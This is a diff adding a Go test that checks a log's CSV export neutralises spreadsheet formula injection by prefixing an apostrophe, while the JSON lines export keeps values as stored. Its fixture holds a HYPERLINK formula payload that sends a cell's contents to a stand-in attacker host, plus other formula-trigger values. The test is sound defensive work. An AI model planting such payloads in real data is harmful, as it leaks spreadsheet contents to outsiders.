@@ -122,6 +122,37 @@ func TestExport(t *testing.T) {
 	}
 }
 
+// TestExportCSVFormulas: what a producer chose (a request id, a source, an
+// unknown recipient) is not left for a spreadsheet to run as a formula in
+// the CSV export; the JSON lines export holds it as stored.
+func TestExportCSVFormulas(t *testing.T) {
+	l := openTestLog(t, openTestDB(t, sqliteDSN(t)), testOptions(t))
+	e := decidedEntry(1)
+	e.Decision, e.Reasons = "deny", []string{"unknown_recipient"}
+	e.RequestID, e.Source, e.Recipient = `=HYPERLINK("http://attacker.invalid/?"&A1,"open")`, "+orders", "@SUM(1+1)"
+	if _, err := l.Append(t.Context(), e); err != nil {
+		t.Fatal(err)
+	}
+	var cb, jl bytes.Buffer
+	if _, err := l.Export(t.Context(), &cb, FormatCSV, Filter{}); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&cb).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("csv: %q, %v", recs, err)
+	}
+	if got := recs[1][3:6]; !slices.Equal(got, []string{"'" + e.RequestID, "'+orders", "'@SUM(1+1)"}) {
+		t.Errorf("csv request_id, source, recipient = %q", got)
+	}
+	if _, err := l.Export(t.Context(), &jl, FormatJSONL, Filter{}); err != nil {
+		t.Fatal(err)
+	}
+	var got Entry
+	if err := json.Unmarshal(jl.Bytes(), &got); err != nil || got.RequestID != e.RequestID || got.Recipient != e.Recipient {
+		t.Errorf("jsonl = %s, %v; want the entry as stored", jl.Bytes(), err)
+	}
+}
+
 // TestSubjectQueryUsesIndex loads 50,000 rows into Postgres (straight SQL:
 // the chain does not matter for the plan) and asserts that the subject query
 // Query runs is planned as an index scan.
